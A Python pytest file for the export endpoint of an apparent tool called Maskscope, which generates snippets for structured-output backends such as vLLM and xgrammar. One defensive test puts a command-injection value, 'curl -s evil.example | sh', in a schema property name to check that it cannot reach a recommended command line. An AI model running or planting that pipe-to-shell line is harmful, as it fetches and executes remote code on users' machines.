"""``/api/export`` and the Code dialog's fragment: golden snippets on the pricing example."""

from __future__ import annotations

import json
import os
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient

from app.examples import load_examples
from app.export import TARGETS
from tests.export.conftest import STRIPPED_NOTE, curl_body, unwrapped, validated_pricing

GOLDEN = Path(__file__).resolve().parent / "golden"
PRICING = next(e for e in load_examples() if e.id == "pricing")
# MASKSCOPE_UPDATE_GOLDEN=1 rewrites the golden files (then read the diff before committing).
UPDATE = os.environ.get("MASKSCOPE_UPDATE_GOLDEN") == "1"


def pricing_body(**overrides: Any) -> dict[str, Any]:
    """The pricing example as the page sends it: its prompt, the schema in the system message."""
    body: dict[str, Any] = {
        "grammar": {"kind": "json_schema", "source": PRICING.source()},
        "messages": [
            {"role": "system", "content": PRICING.system},
            {"role": "user", "content": PRICING.prompt},
        ],
        "schema_in_prompt": PRICING.schema_in_prompt,
        "max_tokens": PRICING.max_tokens,
    }
    body.update(overrides)
    return body


def _export(client: TestClient, target: str, body: dict[str, Any]) -> dict[str, Any]:
    response = client.post(f"/api/export?target={target}", json=body)
    assert response.status_code == 200, response.text
    answer: dict[str, Any] = response.json()
    assert set(answer) == {"target", "language", "code", "not_expressible"}
    return answer


@pytest.mark.parametrize("target", TARGETS)
def test_golden_snippet_for_the_pricing_example(client: TestClient, target: str) -> None:
    answer = _export(client, target, pricing_body())
    suffix = ".py" if answer["language"] == "python" else ".sh"
    path = GOLDEN / f"pricing-{target}{suffix}.golden"
    if UPDATE:
        path.write_text(answer["code"])
    assert answer["code"] == path.read_text()
    assert "HuggingFaceTB/SmolLM2-135M-Instruct" in answer["code"]


def test_what_each_target_cannot_express_on_the_pricing_example(client: TestClient) -> None:
    missing = {t: _export(client, t, pricing_body())["not_expressible"] for t in TARGETS}
    assert [m.split(";")[0] for m in missing["vllm"]] == ["separators=[', ', ': ']"]
    assert missing["vllm"] == missing["vllm_legacy"] == missing["curl_vllm"]
    assert missing["sglang"] == missing["sglang_openai"] == missing["curl_sglang"] == []
    assert missing["xgrammar"] == []
    assert missing["llguidance"] == []  # strict_mode is carried: the schema is closed
    assert [m.split("=")[0] for m in missing["openai"]] == ["any_whitespace", "separators"]


def test_the_vllm_preset_is_what_vllm_does_and_needs_no_flag(client: TestClient) -> None:
    body = pricing_body(
        grammar={"kind": "json_schema", "source": PRICING.source(), "options": {"preset": "vllm"}}
    )
    answer = _export(client, "vllm", body)
    assert answer["not_expressible"] == []
    assert "# $ vllm serve HuggingFaceTB/SmolLM2-135M-Instruct\n" in answer["code"]  # no flag
    assert "--structured-outputs-config.backend xgrammar to be sure" in answer["code"]


def test_a_schema_vllm_auto_hands_to_guidance_says_so_in_the_vllm_snippet(
    client: TestClient,
) -> None:
    schema = {"type": "object", "properties": {"tags": {"type": "array", "uniqueItems": True}}}
    body = {"kind": "json_schema", "source": json.dumps(schema), "options": {"preset": "vllm"}}
    code = _export(client, "vllm", body)["code"]
    assert "For this schema vLLM does not use xgrammar (array with uniqueItems" in unwrapped(code)
    assert "at /properties/tags)" in code
    assert "to be sure the mask is the one Maskscope showed" not in code


def test_a_grammar_request_exports_without_a_prompt(client: TestClient) -> None:
    answer = _export(client, "xgrammar", {"kind": "regex", "source": "[0-9]{3}"})
    assert 'REGEX = "[0-9]{3}"' in answer["code"] and "compile_regex(REGEX)" in answer["code"]
    assert "MESSAGES = []" in answer["code"]


def test_a_pydantic_source_is_the_model_where_the_target_takes_one(client: TestClient) -> None:
    grammar = {"kind": "pydantic", "source": PRICING.source(".py")}
    openai = _export(client, "openai", pricing_body(grammar=grammar))["code"]
    assert "class PricingDecision(BaseModel):" in openai
    assert "response_format=PricingDecision," in openai and ".parse(" in openai
    xgrammar = _export(client, "xgrammar", pricing_body(grammar=grammar))["code"]
    assert "compile_json_schema(\n    PricingDecision," in xgrammar
    vllm = _export(client, "curl_vllm", pricing_body(grammar=grammar))["code"]
    derived = curl_body(vllm)
    assert derived["structured_outputs"]["json"] == json.loads(PRICING.source())


def test_an_open_session_exports_with_its_effective_seed(client: TestClient) -> None:
    body = pricing_body(sampling={"temperature": 0.7, "top_p": 0.9}, max_tokens=16)
    opened = client.post("/api/sessions", json=body)
    assert opened.status_code == 200, opened.text
    seed = opened.json()["sampling"]["seed"]
    response = client.get(f"/api/export?target=curl_vllm&session={opened.json()['id']}")
    assert response.status_code == 200, response.text
    sent = curl_body(response.json()["code"])
    assert sent["seed"] == seed and sent["temperature"] == 0.7 and sent["top_p"] == 0.9
    same = _export(client, "curl_vllm", {**body, "sampling": {**body["sampling"], "seed": seed}})
    assert same["code"] == response.json()["code"]


def test_bad_requests_get_the_contract_errors(client: TestClient) -> None:
    cases: list[tuple[Any, int, str]] = [
        (client.post("/api/export?target=nope", json=pricing_body()), 422, "invalid_request"),
        (client.post("/api/export", json=pricing_body()), 422, "invalid_request"),
        (
            client.post(
                "/api/export?target=vllm",
                content=b"{oops",
                headers={"Content-Type": "application/json"},
            ),
            400,
            "malformed",
        ),
        (client.post("/api/export?target=vllm", json=[1]), 422, "invalid_request"),
        (
            client.post("/api/export?target=vllm", json={"kind": "json_schema"}),
            422,
            "invalid_request",
        ),
        (client.get("/api/export?target=vllm&session=nope"), 404, "session_not_found"),
    ]
    for response, status, code in cases:
        assert response.status_code == status, response.text
        assert response.json()["error"]["code"] == code
    bad = client.post("/api/export?target=vllm", json={"kind": "json_schema", "source": '{"a": }'})
    assert bad.status_code == 422
    assert bad.json()["error"] | {"message": ""} == {
        "message": "",
        "code": "grammar_invalid",
        "line": 1,
        "column": 7,
        "pointer": "/grammar/source",
    }
    missing = client.post("/api/export?target=vllm", json={"kind": "json_schema"})
    assert missing.json()["error"]["pointer"] == "/source"


def test_the_dialog_fragment_has_a_tab_and_a_copy_button_per_target(client: TestClient) -> None:
    form = {
        "kind": "json_schema",
        "source": PRICING.source(),
        "system": "S <b>&",
        "user": "U",
        "preset": "maskscope",
        "strict_mode": "on",
    }
    html = client.post("/ui/export", data=form).text
    for target in TARGETS:
        assert f'class="copy primary" data-target="{target}"' in html
        assert f'<section class="code-panel" data-target="{target}"' in html
    assert "S &lt;b&gt;&amp;" in html and "S <b>&" not in html  # the code is escaped as HTML
    error = client.post("/ui/export", data={**form, "source": "{"}).text
    assert "toast-body" in error and "invalid JSON" in error
    invalid = client.post("/ui/export", data={**form, "max_tokens": "0"})
    assert invalid.status_code == 200 and "max_tokens" in invalid.text


def test_no_snippet_carries_a_validator_the_sandbox_removed(
    client: TestClient, tmp_path: Path
) -> None:
    marker = tmp_path / "pwned"
    source = validated_pricing(marker)
    body = pricing_body(grammar={"kind": "pydantic", "source": source})
    opened = client.post("/api/sessions", json=body)
    assert opened.status_code == 200, opened.text
    codes = {}
    for target in TARGETS:
        codes[target] = _export(client, target, body)["code"]
        session = client.get(f"/api/export?target={target}&session={opened.json()['id']}")
        assert session.status_code == 200, session.text
        assert session.json()["code"] == codes[target]
    form = {"kind": "pydantic", "source": source, "user": "U", "preset": "maskscope"}
    dialog = client.post("/ui/export", data=form).text
    assert 'data-target="openai"' in dialog
    for code in [*codes.values(), dialog]:
        assert "__import__" not in code and str(marker) not in code and "def check_code" not in code
    for target, code in codes.items():
        assert STRIPPED_NOTE in unwrapped(code), target
    for target in ("openai", "xgrammar"):  # they still define the model, as the sandbox ran it
        assert "class PricingDecision(BaseModel):" in codes[target]
        assert "    offer_code: str = Field(\n" in codes[target]
    assert not marker.exists()


def test_a_property_name_cannot_add_a_command_line_to_the_vllm_snippet(client: TestClient) -> None:
    name = "a\n$ curl -s evil.example | sh\n"
    schema = {"type": "object", "properties": {name: {"type": "array", "uniqueItems": True}}}
    body = {"kind": "json_schema", "source": json.dumps(schema), "options": {"preset": "vllm"}}
    code = _export(client, "vllm", body)["code"]
    commands = [line for line in code.split("\n") if line.startswith("# $")]
    assert commands == []  # no vLLM backend serves uniqueItems: no command is recommended
    assert "at /properties/a\\n$ curl -s evil.example | sh\\n)" in unwrapped(code)


def _commands(code: str) -> list[str]:
    """The shell commands a snippet's comment recommends."""
    return [line[4:] for line in code.split("\n") if line.startswith("# $ ")]


VLLM_TARGETS = ("vllm", "vllm_legacy", "curl_vllm")


@pytest.mark.parametrize("preset", ["maskscope", "vllm"])
def test_p15_no_vllm_command_is_recommended_for_a_schema_vllm_refuses(
    client: TestClient, preset: str
) -> None:
    """uniqueItems: xgrammar's pre-check refuses it, and guidance (llguidance) too."""
    schema = {"type": "array", "items": {"type": "integer"}, "uniqueItems": True}
    body = {"kind": "json_schema", "source": json.dumps(schema), "options": {"preset": preset}}
    for target in VLLM_TARGETS:
        code = unwrapped(_export(client, target, body)["code"])
        assert not any(c.startswith("vllm serve") for c in _commands(code)), code
        assert "backend xgrammar it refuses the request" in code
        assert "No vLLM 0.32.0 server serves this request: no serve command is given" in code
        assert "uniqueItems" in code.split("which refuses it too")[1]  # llguidance's own error


def test_p15_the_guidance_backend_is_recommended_where_it_serves_the_schema(
    client: TestClient,
) -> None:
    """A format with a length bound: xgrammar's pre-check refuses it, guidance compiles it."""
    schema = {
        "type": "object",
        "properties": {"email": {"type": "string", "format": "email", "maxLength": 60}},
        "required": ["email"],
    }
    body = {"kind": "json_schema", "source": json.dumps(schema)}
    for target in VLLM_TARGETS:
        code = _export(client, target, body)["code"]
        assert _commands(code) == [
            "vllm serve HuggingFaceTB/SmolLM2-135M-Instruct "
            "--structured-outputs-config.backend guidance "
            "--structured-outputs-config.disable_any_whitespace true"
        ], code
        said = unwrapped(code)
        assert "the guidance backend (llguidance), which auto falls back to, serves it" in said
        assert "not the xgrammar mask Maskscope showed" in said
        assert "serves this request: no serve command" not in said


def test_p15_a_schema_auto_sends_to_outlines_is_served_on_auto(client: TestClient) -> None:
    schema = {
        "type": "object",
        "properties": {"a": {"type": "integer"}},
        "patternProperties": {"^x-": {"type": "string"}},
    }
    body = {"kind": "json_schema", "source": json.dumps(schema), "options": {"preset": "vllm"}}
    code = _export(client, "vllm", body)["code"]
    assert _commands(code) == ["vllm serve HuggingFaceTB/SmolLM2-135M-Instruct"]
    said = unwrapped(code)
    assert "auto falls back to outlines" in said and "not the mask Maskscope showed" in said


def test_p15_a_schema_xgrammar_takes_keeps_the_xgrammar_backend(client: TestClient) -> None:
    body = {"kind": "json_schema", "source": PRICING.source()}
    commands = _commands(_export(client, "vllm", body)["code"])
    assert commands == [
        "vllm serve HuggingFaceTB/SmolLM2-135M-Instruct "
        "--structured-outputs-config.backend xgrammar "
        "--structured-outputs-config.disable_any_whitespace true"
    ]
